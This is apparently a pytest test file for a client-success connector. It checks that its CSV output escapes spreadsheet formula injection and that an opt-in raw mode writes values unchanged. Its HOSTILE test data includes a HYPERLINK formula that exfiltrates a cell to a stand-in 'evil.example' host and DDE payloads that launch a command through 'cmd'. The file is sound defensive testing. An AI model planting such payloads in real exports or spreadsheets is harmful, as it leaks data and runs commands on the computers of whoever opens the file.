"""CSV a spreadsheet cannot execute: text starting with = + - @, a tab or a carriage return
gets a leading `'` in the CSV destination and in `--format csv` (OWASP's advice), and reads
back exactly; `formulas=raw` / `--csv-formulas raw` write values as they are."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import click
import pytest
from click.testing import CliRunner

from clientsuccess_connector.cli.output import emit, format_option
from clientsuccess_connector.errors import ConfigError
from clientsuccess_connector.sinks import open_sink
from clientsuccess_connector.sinks.formulas import neutralise, restore

HOSTILE = {
    1: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    2: "@SUM(1+1)*cmd|' /C calc'!A0",
    3: "+1+cmd|' /C calc'!A0",
    4: "-2+3",
    5: "\t=1+1",
    6: "\r=1+1",
    7: "'=already quoted",
    8: "plain text",
    9: "a=b, not at the start",
}
RECORDS: list[dict[str, Any]] = [
    {"id": i, "note": v, "meta": {"formula": "=1+1"} if i == 1 else None, "n": -5}
    for i, v in HOSTILE.items()
]


def _cells(path: Path) -> dict[str, dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return {row["id"]: row for row in csv.DictReader(fh)}


@pytest.mark.parametrize("value", [*HOSTILE.values(), "", "'", "''=x", "=", "-"])
def test_neutralise_is_undone_by_restore(value: str) -> None:
    escaped = neutralise(value)
    assert restore(escaped) == value
    assert not escaped or escaped[0] not in "=+-@\t\r"


def test_the_csv_destination_writes_no_formula(tmp_path: Path) -> None:
    """No cell of the file starts with a formula character; reading back gives the values."""
    with open_sink(f"csv:///{tmp_path}") as sink:
        sink.write_batch("notes", RECORDS, ["id"])
        sink.write_batch("notes", [{**RECORDS[0], "note": "=1+2"}], ["id"])  # a merge
        rows = {r["id"]: r for r in sink.read_rows("notes")}
    cells = _cells(tmp_path / "notes.csv")
    for row in cells.values():
        assert all(not v or v[0] not in "=+-@\t\r" for k, v in row.items() if k != "n"), row
    assert cells["1"]["note"] == "'=1+2" and cells["7"]["note"] == "''=already quoted"
    assert cells["8"]["note"] == "plain text" and cells["3"]["n"] == "-5"  # numbers stay
    assert {i: rows[i]["note"] for i in HOSTILE} == {**HOSTILE, 1: "=1+2"}
    assert rows[1]["meta"] == {"formula": "=1+1"}


def test_a_second_run_does_not_quote_twice(tmp_path: Path) -> None:
    for _ in range(2):
        with open_sink(f"csv:///{tmp_path}") as sink:
            sink.write_batch("notes", RECORDS, ["id"])
    assert _cells(tmp_path / "notes.csv")["2"]["note"] == "'" + HOSTILE[2]


def test_formulas_raw_writes_values_as_they_are(tmp_path: Path) -> None:
    with open_sink(f"csv:///{tmp_path}?formulas=raw") as sink:
        sink.write_batch("notes", RECORDS, ["id"])
        assert {r["id"]: r["note"] for r in sink.read_rows("notes")} == HOSTILE
    assert {int(k): r["note"] for k, r in _cells(tmp_path / "notes.csv").items()} == HOSTILE


def test_a_bad_formulas_option_names_the_choices(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"escape.*or raw"):
        open_sink(f"csv:///{tmp_path}?formulas=maybe")


@click.command()
@format_option()
def _listing(fmt: str) -> None:
    """A listing command as the CLI's are built: API values, one hostile field name."""
    emit([{"id": i, "note": v, "=head": 1} for i, v in HOSTILE.items()], fmt)


def test_format_csv_neutralises_and_raw_does_not() -> None:
    """`--format csv` escapes values and field names; `--csv-formulas raw` keeps them."""
    escaped = CliRunner().invoke(_listing, ["--format", "csv"])
    raw = CliRunner().invoke(_listing, ["--format", "csv", "--csv-formulas", "raw"])
    assert escaped.exit_code == 0 and raw.exit_code == 0
    rows = list(csv.reader(escaped.output.splitlines()))
    assert rows[0] == ["id", "note", "'=head"]
    assert all(not cell or cell[0] not in "=+-@\t\r" for row in rows for cell in row)
    assert '=HYPERLINK(""http' in raw.output and "\n2,@SUM(" in raw.output
